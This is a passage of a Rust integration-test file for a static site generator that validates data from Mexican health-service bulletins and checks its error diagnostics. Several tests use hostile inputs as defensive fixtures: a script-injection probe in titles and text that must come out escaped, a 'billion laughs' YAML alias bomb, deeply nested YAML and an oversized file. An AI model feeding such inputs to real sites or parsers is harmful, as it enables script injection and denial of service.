//! Integration tests: broken content must fail with exact, located diagnostics, and never panic,
//! hang, or damage a previous build.
//!
//! Every test starts from a small VALID project (the string constants below, written into a
//! temporary directory) and changes one thing. `base_fixture_is_clean` proves the base has no
//! errors and no warnings, so each other test's diagnostics come from its own change only.
//!
//! Expected line numbers refer to the constants below; `base_fixture_layout` asserts the lines
//! the tests rely on, so an edit to a constant that shifts them fails loudly there.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use cifras::diagnostics::{Diagnostic, Diagnostics, Pos, Severity};

// ---------------------------------------------------------------------------------------------
// The base fixture
// ---------------------------------------------------------------------------------------------

const SITE_YAML: &str = r#"title: "Cifras de prueba"
description: "Sitio de prueba para cifras."
base_url: "https://example.github.io/cifras/"
language: es-MX
author: "Equipo de prueba"
license: "CC BY 4.0"
"#;

/// Lines: 2 surgeries, 8 transplants, 14 transplants.kidney (19 parent), 21 transplants.heart
/// (26 parent), 28 consultations; 33 lines in all.
const METRICS_YAML: &str = r#"metrics:
  - id: surgeries
    slug: cirugias
    label: "Cirugías"
    unit: cirugías
    group: surgeries
    definition: "Intervenciones quirúrgicas."
  - id: transplants
    slug: trasplantes
    label: "Trasplantes"
    unit: trasplantes
    group: transplants
    definition: "Trasplantes de órganos y tejidos."
  - id: transplants.kidney
    slug: trasplantes-rinon
    label: "Trasplantes de riñón"
    unit: trasplantes
    group: transplants
    parent: transplants
    definition: "Trasplantes renales."
  - id: transplants.heart
    slug: trasplantes-corazon
    label: "Trasplantes de corazón"
    unit: trasplantes
    group: transplants
    parent: transplants
    definition: "Trasplantes de corazón."
  - id: consultations
    slug: consultas
    label: "Consultas"
    unit: consultas
    group: consultations
    definition: "Consultas otorgadas."
"#;

/// Lines: 2 nacional, 5 veracruz (state), 8 veracruz-sur (office; 10 kind, 11 state).
const PLACES_YAML: &str = r#"places:
  - id: nacional
    name: "Nacional"
    kind: national
  - id: veracruz
    name: "Veracruz"
    kind: state
  - id: veracruz-sur
    name: "Veracruz Sur"
    kind: office
    state: veracruz
"#;

const SLUG: &str = "jornada-prueba";
const BULLETIN: &str = "content/bulletins/jornada-prueba.yaml";
const BULLETIN_MD: &str = "content/bulletins/jornada-prueba.md";

/// Lines: 1 title, 3 date, 5 seed, 10 report id, 12 kind, 13-15 period, 16 scope,
/// 18/19 surgeries, 20/21 transplants, 22/23 kidney, 24/25 heart, 26/27 consultations.
/// Metric values start at column 17, figure values at column 16.
const BULLETIN_YAML: &str = r#"title: "Jornada nacional de prueba"
number: "1/2021"
date: 2021-09-13
source:
  seed: null
  publisher: "Instituto Mexicano del Seguro Social (IMSS)"
  url: null
places: [nacional]
reports:
  - id: jornada
    title: "Jornada del 10 al 12 de septiembre"
    kind: event
    period:
      start: 2021-09-10
      end: 2021-09-12
    scope: [nacional]
    figures:
      - metric: surgeries
        value: 475725
      - metric: transplants
        value: 12
      - metric: transplants.kidney
        value: 10
      - metric: transplants.heart
        value: 2
      - metric: consultations
        value: 2106
"#;

const BULLETIN_TEXT: &str = "# Jornada nacional de prueba

Del 10 al 12 de septiembre de 2021 el IMSS realizó una jornada nacional de recuperación de \
servicios.

En la jornada se realizaron 475 mil 725 cirugías, dos mil 106 consultas y 12 trasplantes: \
10 trasplantes de riñón y 2 trasplantes de corazón.
";

/// A temporary project holding the base fixture, with helpers to break it.
struct Fixture {
    dir: tempfile::TempDir,
}

impl Fixture {
    fn new() -> Self {
        let f = Fixture {
            dir: tempfile::tempdir().expect("temp dir"),
        };
        f.write("content/site.yaml", SITE_YAML);
        f.write("content/metrics.yaml", METRICS_YAML);
        f.write("content/places.yaml", PLACES_YAML);
        f.write(BULLETIN, BULLETIN_YAML);
        f.write(BULLETIN_MD, BULLETIN_TEXT);
        f
    }

    /// The base fixture with one file's text replaced.
    fn with(rel: &str, text: &str) -> Self {
        let f = Fixture::new();
        f.write(rel, text);
        f
    }

    /// The base fixture with the bulletin's YAML edited (see `edit`).
    fn bulletin(from: &str, to: &str) -> Self {
        Fixture::with(BULLETIN, &edit(BULLETIN_YAML, from, to))
    }

    fn root(&self) -> &Path {
        self.dir.path()
    }

    fn write(&self, rel: &str, text: &str) {
        self.write_bytes(rel, text.as_bytes());
    }

    fn write_bytes(&self, rel: &str, bytes: &[u8]) {
        let p = self.root().join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, bytes).unwrap();
    }

    fn remove(&self, rel: &str) {
        fs::remove_file(self.root().join(rel)).unwrap();
    }

    fn rename(&self, from: &str, to: &str) {
        fs::rename(self.root().join(from), self.root().join(to)).unwrap();
    }

    fn check(&self) -> Result<cifras::Outcome, Diagnostics> {
        cifras::check(self.root())
    }

    /// `check` must fail; returns every diagnostic.
    #[track_caller]
    fn fails(&self) -> Diagnostics {
        match self.check() {
            Ok(o) => panic!("expected errors, but check passed with: {}", o.diagnostics),
            Err(d) => {
                assert!(d.has_errors(), "Err without errors: {d}");
                d
            }
        }
    }

    /// `check` must fail with exactly one diagnostic, an error; returns it.
    #[track_caller]
    fn single_error(&self) -> Diagnostic {
        let d = self.fails();
        assert_eq!(d.0.len(), 1, "expected exactly one diagnostic, got:\n{d}");
        d.0[0].clone()
    }

    fn cli(&self, args: &[&str]) -> std::process::Output {
        Command::new(env!("CARGO_BIN_EXE_cifras"))
            .args(args)
            .arg("--root")
            .arg(self.root())
            .output()
            .expect("run cifras")
    }
}

/// Replace the single occurrence of `from` in `text` (panics if it is not exactly one, so a
/// typo in a test cannot silently leave the fixture valid).
#[track_caller]
fn edit(text: &str, from: &str, to: &str) -> String {
    assert_eq!(
        text.matches(from).count(),
        1,
        "`{from}` must occur exactly once in the fixture"
    );
    text.replacen(from, to, 1)
}

#[track_caller]
fn assert_diag(
    d: &Diagnostic,
    severity: Severity,
    path: &str,
    (line, col): (u32, u32),
    message: &str,
) {
    let shown = d.to_string();
    assert_eq!(d.severity, severity, "severity of:\n{shown}");
    assert_eq!(d.path, Path::new(path), "path of:\n{shown}");
    assert_eq!(d.pos, Pos::new(line, col), "position of:\n{shown}");
    assert!(
        d.message.contains(message),
        "message should contain {message:?}:\n{shown}"
    );
}

#[track_caller]
fn assert_hint(d: &Diagnostic, hint: &str) {
    let h = d.hint.as_deref().unwrap_or_default();
    assert!(h.contains(hint), "hint should contain {hint:?}:\n{d}");
}

/// Every file under `dir`, by relative path, with its bytes.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.insert(
                    p.strip_prefix(dir).unwrap().to_path_buf(),
                    fs::read(&p).unwrap(),
                );
            }
        }
    }
    out
}

// ---------------------------------------------------------------------------------------------
// The base fixture is valid
// ---------------------------------------------------------------------------------------------

#[test]
fn base_fixture_layout() {
    let line = |text: &str, n: usize| text.lines().nth(n - 1).unwrap().to_string();
    assert_eq!(line(BULLETIN_YAML, 3), "date: 2021-09-13");
    assert_eq!(line(BULLETIN_YAML, 10), "  - id: jornada");
    assert_eq!(line(BULLETIN_YAML, 12), "    kind: event");
    assert_eq!(line(BULLETIN_YAML, 15), "      end: 2021-09-12");
    assert_eq!(line(BULLETIN_YAML, 16), "    scope: [nacional]");
    assert_eq!(line(BULLETIN_YAML, 18), "      - metric: surgeries");
    assert_eq!(line(BULLETIN_YAML, 19), "        value: 475725");
    assert_eq!(line(BULLETIN_YAML, 20), "      - metric: transplants");
    assert_eq!(
        line(BULLETIN_YAML, 22),
        "      - metric: transplants.kidney"
    );
    assert_eq!(line(BULLETIN_YAML, 25), "        value: 2");
    assert_eq!(BULLETIN_YAML.lines().count(), 27);
    assert_eq!(METRICS_YAML.lines().count(), 33);
    assert_eq!(line(PLACES_YAML, 10), "    kind: office");
    assert_eq!(line(PLACES_YAML, 11), "    state: veracruz");
}

#[test]
fn base_fixture_is_clean() {
    let f = Fixture::new();
    let outcome = f
        .check()
        .unwrap_or_else(|d| panic!("base fixture fails:\n{d}"));
    assert!(
        outcome.diagnostics.is_empty(),
        "base fixture has warnings:\n{}",
        outcome.diagnostics
    );
    assert_eq!(outcome.bulletins, 1);
    assert_eq!(outcome.figures, 5);
}

// ---------------------------------------------------------------------------------------------
// Schema and references
// ---------------------------------------------------------------------------------------------

#[test]
fn unknown_field_in_bulletin() {
    let f = Fixture::bulletin("        value: 475725", "        valu: 475725");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (19, 9),
        "`valu` is not one of the fields accepted here",
    );
    assert_hint(&d, "check the spelling");
}

#[test]
fn unknown_metric_suggests_the_close_one() {
    let f = Fixture::bulletin("metric: transplants.kidney", "metric: transplant.kidney");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (22, 17),
        "unknown metric `transplant.kidney`",
    );
    assert_hint(&d, "did you mean `transplants.kidney`");
}

#[test]
fn unknown_place_in_scope() {
    let f = Fixture::bulletin("scope: [nacional]", "scope: [atlantida]");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (16, 13),
        "unknown place `atlantida`",
    );
    assert_hint(&d, "places.yaml");
}

#[test]
fn impossible_date() {
    let f = Fixture::bulletin("date: 2021-09-13", "date: 2021-02-30");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (3, 7),
        "`2021-02-30` does not exist",
    );
    assert!(d.message.contains("28 days"), "{d}");
    assert_hint(&d, "YYYY-MM-DD");
}

#[test]
fn date_in_wrong_format() {
    let f = Fixture::bulletin("date: 2021-09-13", "date: 12/09/2021");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (3, 7),
        "`12/09/2021` is not a date in the form YYYY-MM-DD",
    );
}

#[test]
fn period_start_after_end() {
    let f = Fixture::bulletin(
        "      start: 2021-09-10\n      end: 2021-09-12",
        "      start: 2021-09-12\n      end: 2021-09-10",
    );
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (15, 12),
        "the period ends (2021-09-10) before it starts (2021-09-12)",
    );
    assert_hint(&d, "swap `start` and `end`");
}

#[test]
fn cumulative_report_without_period() {
    let f = Fixture::bulletin(
        "    kind: event\n    period:\n      start: 2021-09-10\n      end: 2021-09-12\n",
        "    kind: cumulative\n",
    );
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (12, 11),
        "figures of kind `cumulative` need a period",
    );
    assert_hint(&d, "period: { start: YYYY-MM-DD, end: YYYY-MM-DD }");
}

#[test]
fn duplicate_report_id() {
    let yaml = format!(
        "{BULLETIN_YAML}  - id: jornada
    title: \"Otra vez\"
    kind: stock
    scope: [nacional]
    figures:
      - metric: surgeries
        value: 475725
"
    );
    let f = Fixture::with(BULLETIN, &yaml);
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (28, 9),
        "report id `jornada` is used twice",
    );
    assert_hint(&d, "also on line 10");
}

#[test]
fn duplicate_metric_in_one_report() {
    let yaml = format!("{BULLETIN_YAML}      - metric: surgeries\n        value: 475725\n");
    let f = Fixture::with(BULLETIN, &yaml);
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (28, 17),
        "metric `surgeries` appears twice in this report",
    );
    assert_hint(&d, "also on line 18");
}

// ---------------------------------------------------------------------------------------------
// Totals and parts; figures and text
// ---------------------------------------------------------------------------------------------

/// The text states 3 heart transplants, so only the sum is wrong (not the statement check).
const TEXT_WITH_3_HEARTS: &str = "# Jornada

Se realizaron 475 mil 725 cirugías, dos mil 106 consultas y 12 trasplantes: 10 trasplantes de \
riñón y 3 trasplantes de corazón (13 según el desglose).
";

#[test]
fn total_differs_from_sum_of_parts() {
    let f = Fixture::bulletin("        value: 2\n", "        value: 3\n");
    f.write(BULLETIN_MD, TEXT_WITH_3_HEARTS);
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (20, 17),
        "`transplants` is 12 but its parts (transplants.kidney + transplants.heart) add up to 13",
    );
    assert_hint(&d, "conflict");
}

#[test]
fn declared_conflict_turns_sum_error_into_warning() {
    let yaml = edit(BULLETIN_YAML, "        value: 2\n", "        value: 3\n");
    let yaml = edit(
        &yaml,
        "        value: 12\n",
        "        value: 12\n        conflict:\n          other_values: [13]\n          note: \"Las partes suman 13.\"\n",
    );
    let f = Fixture::with(BULLETIN, &yaml);
    f.write(BULLETIN_MD, TEXT_WITH_3_HEARTS);
    let outcome = f
        .check()
        .unwrap_or_else(|d| panic!("a declared conflict must not fail:\n{d}"));
    let d = &outcome.diagnostics;
    assert_eq!(d.0.len(), 1, "expected one warning:\n{d}");
    assert_diag(
        &d.0[0],
        Severity::Warning,
        BULLETIN,
        (20, 17),
        "`transplants` is 12 but its parts",
    );
}

#[test]
fn figure_not_stated_in_text_is_a_warning() {
    let f = Fixture::bulletin("value: 475725", "value: 475726");
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let outcome = cifras::build(f.root(), &out)
        .unwrap_or_else(|d| panic!("an unstated figure must not fail the build:\n{d}"));
    assert!(out.join("index.html").is_file(), "the site was written");
    let d = &outcome.diagnostics;
    assert_eq!(d.0.len(), 1, "expected one warning:\n{d}");
    assert_diag(
        &d.0[0],
        Severity::Warning,
        BULLETIN,
        (19, 16),
        "475,726 (surgeries) is not stated in the bulletin text",
    );
    assert!(d.0[0].message.contains(BULLETIN_MD), "{}", d.0[0]);
}

/// The base fixture with the metrics of two figures swapped: every number is still in the
/// text, but next to the other indicator's words.
fn swapped(a: &str, b: &str) -> Fixture {
    let yaml = edit(BULLETIN_YAML, &format!("metric: {a}\n"), "metric: SWAP\n");
    let yaml = edit(&yaml, &format!("metric: {b}\n"), &format!("metric: {a}\n"));
    let yaml = edit(&yaml, "metric: SWAP\n", &format!("metric: {b}\n"));
    Fixture::with(BULLETIN, &yaml)
}

#[test]
fn swapped_metrics_are_number_only_warnings_quoting_the_sentence() {
    let f = swapped("surgeries", "consultations");
    let outcome = f
        .check()
        .unwrap_or_else(|d| panic!("a number-only figure is a warning, not an error:\n{d}"));
    let d = &outcome.diagnostics;
    assert_eq!(d.0.len(), 2, "expected two warnings:\n{d}");
    assert_diag(
        &d.0[0],
        Severity::Warning,
        BULLETIN,
        (19, 16),
        "475,725 (consultations)",
    );
    assert_diag(
        &d.0[1],
        Severity::Warning,
        BULLETIN,
        (27, 16),
        "2,106 (surgeries)",
    );
    for w in &d.0 {
        // the file the number was found in, and the sentence, shortened around the number
        assert!(w.message.contains(BULLETIN_MD), "{w}");
        assert!(
            w.message
                .contains("only where the text is about something else"),
            "{w}"
        );
        assert!(
            w.message.contains(
                "«En la jornada se realizaron 475 mil 725 cirugías, dos mil 106 consultas"
            ),
            "{w}"
        );
        assert_hint(w, "aliases:");
    }
    assert_hint(&d.0[0], "check that this figure is `consultations`");
    // Two parts of one total swapped: each part's number sits next to the other's words.
    let d = swapped("transplants.kidney", "transplants.heart")
        .check()
        .unwrap_or_else(|d| panic!("{d}"))
        .diagnostics;
    assert_eq!(d.0.len(), 2, "expected two warnings:\n{d}");
    assert_diag(
        &d.0[0],
        Severity::Warning,
        BULLETIN,
        (23, 16),
        "10 (transplants.heart)",
    );
    assert_diag(
        &d.0[1],
        Severity::Warning,
        BULLETIN,
        (25, 16),
        "2 (transplants.kidney)",
    );
}

#[test]
fn number_only_figures_are_flagged_on_pages_and_counted_apart() {
    let f = swapped("surgeries", "consultations");
    let outcome = cifras::build_in_memory(f.root(), &cifras::Options::default(), None)
        .unwrap_or_else(|d| panic!("{d}"));
    let page = |path: &str| {
        let file = outcome.files.iter().find(|x| x.path == path).unwrap();
        String::from_utf8(file.bytes.to_vec()).unwrap()
    };
    let bulletin = page(&format!("boletines/{SLUG}/index.html"));
    assert_eq!(
        bulletin.matches("solo el número en el texto</a>").count(),
        2
    );
    // the figures stated with their words still link to their sentence as verified ones
    assert_eq!(
        bulletin
            .matches("title=\"Ver la frase del boletín que da esta cifra\"")
            .count(),
        3,
        "transplants, kidney and heart"
    );
    let methodology = page("metodologia/index.html");
    for count in [
        "<strong>3</strong> se encontraron",
        "<strong>2</strong> solo con el número",
        "<strong>0</strong> no están en el texto",
    ] {
        assert!(
            methodology.contains(count),
            "{count} not in the methodology page"
        );
    }
}

#[test]
fn check_explain_names_each_figure_and_its_sentence() {
    let f = swapped("surgeries", "consultations");
    f.write(
        BULLETIN,
        &edit(
            &fs::read_to_string(f.root().join(BULLETIN)).unwrap(),
            "value: 2106\n",
            "value: 2107\n",
        ),
    );
    let out = f.cli(&["check", "--explain"]);
    let stdout = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = stdout.lines().collect();
    let sentence = "«En la jornada se realizaron 475 mil 725 cirugías, dos mil 106 consultas y 12 trasplantes: 10 trasplantes de riñón y 2 trasplantes de corazón.»";
    assert_eq!(
        lines[..5],
        [
            format!("{BULLETIN}:19:16: consultations 475,725: number only: {sentence}"),
            format!("{BULLETIN}:21:16: transplants 12: {sentence}"),
            format!("{BULLETIN}:23:16: transplants.kidney 10: {sentence}"),
            format!("{BULLETIN}:25:16: transplants.heart 2: {sentence}"),
            format!("{BULLETIN}:27:16: surgeries 2,107: not found"),
        ],
        "{stdout}"
    );
    // the warnings go to stderr as usual, the summary after the figures
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(stderr.matches("warning:").count(), 2, "{stderr}");
    assert!(
        lines[5].starts_with("OK: 1 bulletins, 5 figures"),
        "{stdout}"
    );
    // the same in JSON, beside the diagnostics
    let out = f.cli(&["check", "--explain", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let figures = json["figures"].as_array().unwrap();
    let traces: Vec<&str> = figures
        .iter()
        .map(|x| x["trace"].as_str().unwrap())
        .collect();
    assert_eq!(
        traces,
        ["number_only", "found", "found", "found", "not_found"]
    );
    assert_eq!(figures[0]["line"], 19);
    assert_eq!(figures[0]["column"], 16);
    assert_eq!(figures[0]["metric"], "consultations");
    assert_eq!(figures[0]["value"], "475,725");
    assert!(figures[0]["sentence"]
        .as_str()
        .unwrap()
        .contains("475 mil 725 cirugías"));
    assert!(figures[4]["sentence"].is_null());
    assert_eq!(json["warnings"], 2);
    // without --explain, nothing of it
    let out = f.cli(&["check"]);
    assert!(!String::from_utf8(out.stdout)
        .unwrap()
        .contains("number only"));
}

#[test]
fn negative_value() {
    let f = Fixture::bulletin("value: 475725", "value: -5");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (19, 16),
        "negative figure -5",
    );
}

#[test]
fn value_beyond_u64_message_quotes_the_written_value() {
    let f = Fixture::bulletin("value: 475725", "value: 99999999999999999999999");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (19, 16),
        "number out of range",
    );
    assert!(d.message.contains("99999999999999999999999"), "{d}");
}

#[test]
fn value_written_as_text_message_is_not_escaped() {
    let f = Fixture::bulletin("value: 475725", "value: \"6,552,794\"");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (19, 16),
        "expected a number, found the text \"6,552,794\"",
    );
    assert!(!d.to_string().contains('\\'), "{d}");
}

#[test]
fn null_date_error_points_at_the_date_line() {
    let f = Fixture::bulletin("date: 2021-09-13", "date: null");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (3, 7),
        "the bulletin has no `date` and no `date_note`",
    );
    assert_hint(&d, "date_note");
}

#[test]
fn null_date_with_date_note_passes() {
    let f = Fixture::bulletin(
        "date: 2021-09-13",
        "date: null\ndate_note: \"El boletín no indica fecha.\"",
    );
    let outcome = f.check().unwrap_or_else(|d| panic!("{d}"));
    assert!(outcome.diagnostics.is_empty(), "{}", outcome.diagnostics);
}

// ---------------------------------------------------------------------------------------------
// Files and names
// ---------------------------------------------------------------------------------------------

#[test]
fn bulletin_yaml_without_md() {
    let f = Fixture::new();
    f.remove(BULLETIN_MD);
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (0, 0),
        "bulletin text `content/bulletins/jornada-prueba.md` is missing",
    );
}

#[test]
fn bulletin_md_without_yaml() {
    let f = Fixture::new();
    f.write("content/bulletins/huerfano.md", BULLETIN_TEXT);
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        "content/bulletins/huerfano.md",
        (0, 0),
        "bulletin text has no data file",
    );
    assert_hint(&d, "create `huerfano.yaml`");
}

#[test]
fn yml_extension_is_refused() {
    let f = Fixture::new();
    f.rename(BULLETIN, "content/bulletins/jornada-prueba.yml");
    let d = f.fails();
    assert_eq!(d.errors().count(), 2, "{d}");
    let yml =
        d.0.iter()
            .find(|x| x.path.extension().is_some_and(|e| e == "yml"))
            .unwrap_or_else(|| panic!("no diagnostic names the .yml file:\n{d}"));
    assert_diag(
        yml,
        Severity::Error,
        "content/bulletins/jornada-prueba.yml",
        (0, 0),
        "bulletin data files must end in .yaml",
    );
    assert_hint(yml, "rename it to `jornada-prueba.yaml`");
    let md =
        d.0.iter()
            .find(|x| x.path == Path::new(BULLETIN_MD))
            .unwrap_or_else(|| panic!("no diagnostic names the .md file:\n{d}"));
    assert_diag(
        md,
        Severity::Error,
        BULLETIN_MD,
        (0, 0),
        "bulletin text has no data file",
    );
    assert_hint(md, "not .yml");
}

#[test]
fn slug_with_uppercase_and_space() {
    let f = Fixture::new();
    f.rename(BULLETIN, "content/bulletins/Mal Nombre.yaml");
    f.rename(BULLETIN_MD, "content/bulletins/Mal Nombre.md");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        "content/bulletins/Mal Nombre.yaml",
        (0, 0),
        "file name `Mal Nombre` is not a URL-safe slug",
    );
    assert_hint(&d, "lowercase");
}

#[test]
fn empty_bulletin_file() {
    let f = Fixture::with(BULLETIN, "");
    let d = f.single_error();
    assert_diag(&d, Severity::Error, BULLETIN, (0, 0), "file is empty");
}

#[test]
fn invalid_utf8_is_located_at_the_first_bad_byte() {
    // Latin-1 "í" (0xED) on line 11, after 24 characters (one of them the 2-byte "ñ").
    let yaml = edit(
        BULLETIN_YAML,
        "    title: \"Jornada del 10 al 12 de septiembre\"",
        "    title: \"Año de cirug\u{FFFD}as\"",
    );
    let bytes: Vec<u8> = {
        let mut b = Vec::new();
        let (before, after) = yaml.split_once('\u{FFFD}').unwrap();
        b.extend_from_slice(before.as_bytes());
        b.push(0xED);
        b.extend_from_slice(after.as_bytes());
        b
    };
    let f = Fixture::new();
    f.write_bytes(BULLETIN, &bytes);
    let d = f.single_error();
    assert_diag(&d, Severity::Error, BULLETIN, (11, 25), "invalid UTF-8");
    assert_hint(&d, "UTF-8");
    assert_eq!(d.source_line.as_deref(), Some("    title: \"Año de cirug"));
}

#[test]
fn bom_and_crlf_are_accepted() {
    let crlf = |s: &str| format!("\u{feff}{}", s.replace('\n', "\r\n"));
    let f = Fixture::new();
    f.write("content/site.yaml", &crlf(SITE_YAML));
    f.write("content/metrics.yaml", &crlf(METRICS_YAML));
    f.write("content/places.yaml", &crlf(PLACES_YAML));
    f.write(BULLETIN, &crlf(BULLETIN_YAML));
    f.write(BULLETIN_MD, &crlf(BULLETIN_TEXT));
    let outcome = f
        .check()
        .unwrap_or_else(|d| panic!("BOM + CRLF must pass:\n{d}"));
    assert!(outcome.diagnostics.is_empty(), "{}", outcome.diagnostics);
    assert_eq!(outcome.figures, 5);
}

#[test]
fn bom_and_crlf_keep_error_positions() {
    let yaml = edit(
        BULLETIN_YAML,
        "metric: transplants.kidney",
        "metric: transplant.kidney",
    );
    let f = Fixture::with(BULLETIN, &format!("\u{feff}{}", yaml.replace('\n', "\r\n")));
    let d = f.single_error();
    assert_diag(&d, Severity::Error, BULLETIN, (22, 17), "unknown metric");
    assert_eq!(
        d.source_line.as_deref(),
        Some("      - metric: transplant.kidney")
    );
}

#[test]
fn tab_indentation_is_an_error() {
    let f = Fixture::bulletin("  seed: null", "\tseed: null");
    let d = f.single_error();
    assert_eq!(d.severity, Severity::Error, "{d}");
    assert_eq!(d.path, Path::new(BULLETIN), "{d}");
    assert_eq!(d.pos, Pos::new(5, 1), "the caret points at the tab: {d}");
    assert!(d.message.contains("tabs"), "{d}");
    assert_hint(&d, "spaces, not tabs");
}

#[test]
fn deeply_nested_yaml_fails_fast() {
    let yaml = format!("title: {}\n", "[".repeat(10_000));
    let f = Fixture::with(BULLETIN, &yaml);
    let start = Instant::now();
    let d = f.single_error();
    assert!(
        start.elapsed() < Duration::from_secs(5),
        "took {:?}",
        start.elapsed()
    );
    assert_eq!(d.path, Path::new(BULLETIN), "{d}");
    assert_eq!(d.pos.line, 1, "{d}");
}

/// A "billion laughs" bulletin is refused quickly, with the file named and no panic. (The schema
/// rejects it before expanding; that serde-saphyr's alias budget stops the expansion itself is
/// tested in `load`'s unit tests, where any shape is accepted.)
#[test]
fn alias_bomb_fails_fast() {
    let mut yaml = String::from("title: \"x\"\nnotes: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    let names = ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j"];
    for w in names.windows(2) {
        let (prev, this) = (w[0], w[1]);
        let refs = vec![format!("*{prev}"); 9].join(",");
        yaml.push_str(&format!("x{this}: &{this} [{refs}]\n"));
    }
    yaml.push_str("reports: *j\n");
    let f = Fixture::with(BULLETIN, &yaml);
    let start = Instant::now();
    let d = f.fails();
    assert!(
        start.elapsed() < Duration::from_secs(5),
        "took {:?}",
        start.elapsed()
    );
    assert!(d.0.iter().all(|x| x.path == Path::new(BULLETIN)), "{d}");
}

#[test]
fn huge_markdown_is_refused() {
    let f = Fixture::new();
    // 50 MB, written sparse so the test stays fast; the loader must refuse it before reading.
    let file = fs::File::create(f.root().join(BULLETIN_MD)).unwrap();
    file.set_len(50 * 1024 * 1024).unwrap();
    let started = std::time::Instant::now();
    let d = f.single_error();
    assert!(
        started.elapsed().as_secs() < 2,
        "refused without reading it"
    );
    assert_diag(&d, Severity::Error, BULLETIN_MD, (0, 0), "too large");
}

// ---------------------------------------------------------------------------------------------
// Untrusted text is escaped
// ---------------------------------------------------------------------------------------------

#[test]
fn script_in_title_and_text_is_escaped() {
    let f = Fixture::bulletin(
        "title: \"Jornada nacional de prueba\"",
        "title: \"<script>alert(1)</script> Jornada\"",
    );
    f.write(
        BULLETIN_MD,
        &format!("{BULLETIN_TEXT}\n<script>alert(1)</script>\n\nTexto <script>alert(2)</script> en línea.\n"),
    );
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let outcome = cifras::build(f.root(), &out).unwrap_or_else(|d| panic!("{d}"));
    assert!(outcome.diagnostics.is_empty(), "{}", outcome.diagnostics);
    let mut pages = 0;
    let mut escaped = 0;
    for (path, bytes) in snapshot(&out) {
        let ext = path.extension().and_then(|e| e.to_str()).unwrap_or("");
        if !matches!(ext, "html" | "svg") {
            continue;
        }
        pages += 1;
        let text = String::from_utf8_lossy(&bytes).to_lowercase();
        // The only script elements allowed are the generator's own JSON-LD blocks, whose data
        // cannot open or close a tag, its own chart and search scripts from static/, and
        // Pagefind's search UI.
        let scripts = text.matches("<script").count();
        let json_ld = text
            .matches("<script type=\"application/ld+json\">")
            .count();
        let own = text
            .match_indices("<script defer src=\"")
            .filter(|(i, m)| {
                let src = &text[i + m.len()..];
                let src = &src[..src.find('"').unwrap()];
                !src.contains("://")
                    && (src.rsplit_once("static/").is_some_and(|(_, file)| {
                        file.starts_with("graficas.")
                            || file.starts_with("insertar.")
                            || file.starts_with("buscar.")
                    }) || src.ends_with("pagefind/pagefind-ui.js"))
            })
            .count();
        assert_eq!(
            scripts,
            json_ld + own,
            "{} contains a raw <script>",
            path.display()
        );
        for block in text.split("<script type=\"application/ld+json\">").skip(1) {
            let json = &block[..block.find("</script>").unwrap()];
            assert!(
                !json.contains('<'),
                "{}: markup inside JSON-LD",
                path.display()
            );
        }
        if text.contains("&lt;script&gt;") {
            escaped += 1;
        }
    }
    assert!(pages > 3, "pages were written");
    assert!(escaped > 0, "the title/text appear escaped somewhere");
    let page = fs::read_to_string(out.join(format!("boletines/{SLUG}/index.html")))
        .expect("bulletin page");
    assert!(
        page.contains("&lt;script&gt;alert(1)&lt;&#x2F;script&gt; Jornada")
            || page.contains("&lt;script&gt;alert(1)&lt;/script&gt; Jornada"),
        "title escaped on its page"
    );
    assert!(
        page.contains("alert(2)"),
        "the inline text is kept, as text"
    );
}

// ---------------------------------------------------------------------------------------------
// Many errors at once
// ---------------------------------------------------------------------------------------------

#[test]
fn meaning_errors_in_several_files_are_all_reported() {
    let f = Fixture::bulletin("metric: transplants.kidney", "metric: transplant.kidney");
    f.write(
        "content/site.yaml",
        &edit(
            SITE_YAML,
            "https://example.github.io/cifras/",
            "example.org",
        ),
    );
    f.write(
        "content/places.yaml",
        &edit(PLACES_YAML, "state: veracruz", "state: veracruzz"),
    );
    let d = f.fails();
    assert_eq!(d.0.len(), 3, "{d}");
    assert_diag(
        &d.0[0],
        Severity::Error,
        BULLETIN,
        (22, 17),
        "unknown metric",
    );
    assert_diag(
        &d.0[1],
        Severity::Error,
        "content/places.yaml",
        (11, 12),
        "unknown state `veracruzz`",
    );
    assert_diag(
        &d.0[2],
        Severity::Error,
        "content/site.yaml",
        (3, 11),
        "base_url `example.org` is not an absolute URL",
    );
}

#[test]
fn parse_errors_in_several_files_are_all_reported() {
